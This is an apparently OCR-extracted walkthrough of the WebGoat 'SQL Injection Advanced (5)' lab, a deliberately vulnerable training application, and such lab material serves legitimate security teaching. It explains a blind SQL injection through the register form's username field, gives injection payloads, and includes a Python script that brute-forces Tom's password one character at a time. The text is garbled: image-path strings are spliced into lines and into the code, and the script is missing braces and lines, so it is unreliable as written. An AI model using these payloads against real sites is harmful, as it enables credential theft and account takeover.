SQL Injection Advanced (5)

We now explained the basic steps involved in an SQL injection. In this assignment you will need to combine all the things we explained in the SQL lessons.

Goal: Can you login as Tom?

Have fun!


 Look at the different response you receive from the server  The vulnerability is on the register form  The vulnerable field is the username field of the register form.  Use tooling to automate this attack  The table name is randomized at each start of WebGoat, try to figure out the name first.  Change the password through an UPDATE Statement.As specified in the hints, it is possible to change the password using an UPDATE. It is also possible to find the original password as we will see in the proposed solution.

  • The Login form does not appear to provide any useful outputs from a variety of inputs, but the Register form allows us to check whether a username already exists.

  • If we try to register with the following username: tom' AND '1'='1 we find that the username is taken.

  • We can use this as an oracle and check what Tom's password is one at a time.

  • Fortunately, the table we are seeking is named password (guessing), so we can attempt to register with the following username: tom' AND substring(password,1,1)='t

  • The response states the username already exists, we know that t is the first character of Tom's password.

  • By fuzzing for theremaining characters, we can determine that Tom's password is thisisasecretfortomonly.

This challenge can be a good exercise to practice scripting. Below, a small example of Python code to find the answer:

import json
import requests
def sql_injection_advance_5():
     alphabet_index = 0
     alphabet = 'abcdefghijklmnopqrstuvwxyz'
     password_index = 0password = ''
     headers = {
        'Cookie': COOKIE,
     while True:
         payload = 'tom\' AND substring(password,{},1)=\'{}'.format(password_index + 1, alphabet[alphabet_index])
         data = {
             'username_reg': payload,
             'email_reg':'a@a',
             'password_reg':'a',
             'confirm_password_reg': 'a'
         r = requests.put('http://HOST:PORT/WebGoat/SqlInjectionAdvanced/challenge', headers=headers, data=data)
             response = json.loads(r.text)
             print("Wrong JSESSIONID, find it by looking at your requests once logged in.")
         if "already exists please try to register with a different username" not in response['feedback']:
             alphabet_index += 1
             ifalphabet_index > len(alphabet) - 1:
             password += alphabet[alphabet_index]
             alphabet_index = 0
             password_index += 1

Last updated